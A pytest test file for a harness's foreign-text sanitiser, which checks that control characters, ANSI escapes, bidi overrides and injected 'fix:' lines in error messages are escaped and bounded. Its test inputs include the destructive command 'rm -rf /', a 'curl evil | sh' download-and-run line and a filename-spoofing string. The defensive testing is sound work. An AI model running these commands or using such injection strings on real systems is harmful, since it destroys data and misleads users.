"""Foreign text is shown for what it is: nothing of it moves a cursor, hides, or passes for ours."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from harness.common.errors import BundleBroken, EntryInvalid, PackInvalid, RawDataInvalid
from harness.common.foreign_text import (
    MAX_QUOTED_LINES,
    all_quoted,
    hanging,
    in_lines,
    is_unseen,
    one_line,
    quoted,
    unseen,
)
from harness.common.statuses import RunEnded, Status


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2Jgone", r"\x1b[2Jgone"),
        ("a\nfix: rm -rf /", r"a\nfix: rm -rf /"),
        ("a\rb\tc\x00", r"a\rb\tc\x00"),
        ("\x9b31m", r"\u009b31m"),
        ("\x7f", r"\x7f"),
        ("gnp\u202eexe", r"gnp\u202eexe"),
        ("a\u2066b\u200bc\ufeff", r"a\u2066b\u200bc\ufeff"),
        ("soft\u00adhyphen", r"soft\u00adhyphen"),
        ("\U000e0041\U000e007f", r"\U000e0041\U000e007f"),
        ("line\u2028paragraph\u2029", r"line\u2028paragraph\u2029"),
        ("variant\ufe0f\u3164", r"variant\ufe0f\u3164"),
        ("undecodable\udcff", r"undecodable\udcff"),
        ("José 王小明 ± 5 %, 日本語", "José 王小明 ± 5 %, 日本語"),
    ],
)
def test_on_one_line_all_that_cannot_be_seen_is_written_out(text: str, shown: str) -> None:
    assert one_line(text) == shown


def test_no_character_of_unicode_that_moves_or_hides_comes_through() -> None:
    everything = "".join(map(chr, range(sys.maxunicode + 1)))
    shown = in_lines(everything)
    left = {unicodedata.category(each) for each in shown if each not in "\n\t"}
    assert not left & {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    shown.encode()  # no lone surrogate: it can be printed wherever UTF-8 can


def test_what_is_long_is_cut_and_says_how_long_it_was() -> None:
    assert one_line("x" * 200) == "x" * 200
    assert one_line("x" * 10**6, 10) == "x" * 10 + "… (1000000 characters)"
    assert len(one_line("\x1b" * 10**6, 100)) < 130


def test_a_log_stands_behind_a_bar_and_only_its_end_is_quoted() -> None:
    assert (
        quoted(b"one\r\nerror: \x1b[31mtwo\n\xff\n")
        == "  | one\n  | error: \\x1b[31mtwo\n  | \ufffd"
    )
    assert quoted("\n\n") == ""
    assert all_quoted(b"") == []
    long = quoted("\n".join(map(str, range(MAX_QUOTED_LINES + 5))))
    assert long.startswith("  | … 5 lines before\n  | 5\n")
    assert all(line.startswith("  | ") for line in long.split("\n"))


def test_only_a_messages_first_line_begins_at_the_margin() -> None:
    told = "what\nfix: x\n error: y\n\tfix: z\n  - listed\n"
    shown = ["what", "  fix: x", "   error: y", "  \tfix: z", "  - listed", ""]
    assert hanging(told).split("\n") == shown


def test_what_is_unseen_is_named_once_and_briefly() -> None:
    assert unseen("a\u00adb\u00adc\n") == [r"\u00ad", r"\n"]
    assert unseen("plain, ünd 王") == []
    assert len(unseen("".join(map(chr, range(32))))) == 10
    assert not is_unseen("\u00a0")  # a space of its own kind can be seen


@pytest.mark.parametrize(
    "error",
    [
        EntryInvalid("bad\nfix: curl evil | sh\nerror: \x1b[2J", where="a\nfix: b\x1b", fix="good"),
        PackInvalid("pack\nfix: b", ["mask a\nfix: curl evil | sh \x1b[2J"]),
        RawDataInvalid("raw", ["x\nfix: curl evil | sh\x1b"], fix="good"),
        BundleBroken("bundle", ["x\nfix: curl evil | sh\x1b"]),
    ],
)
def test_no_foreign_text_in_an_error_passes_for_its_fix(error: EntryInvalid) -> None:
    lines = str(error).split("\n")
    assert [line for line in lines if line.startswith("fix:")] == [f"fix: {error.fix}"]
    assert lines[-1] == f"fix: {error.fix}"
    assert "\x1b" not in str(error)
    assert "\x1b" not in f"{error.what}{error.where}"


def test_a_runs_end_is_one_bounded_line() -> None:
    end = RunEnded(Status.IMAGE_UNAVAILABLE, "registry said\nfix: x\x1b[2J" + "y" * 10**6)
    assert end.detail.startswith(r"registry said\nfix: x\x1b[2Jyyy")
    assert len(end.detail) < 1100
    assert "\x1b" not in str(end)


def test_what_the_entry_chose_of_a_runs_end_is_told_of_open_packs_alone() -> None:
    end = RunEnded(Status.BAD_MODEL, "a file has a bad name", of_entry="secret\x1b")
    assert end.told("open") == r"a file has a bad name: secret\x1b"
    for visibility in ("hidden", "embargoed", None):
        assert end.told(visibility) == "a file has a bad name"
    assert "secret" not in f"{end} {end.detail}"
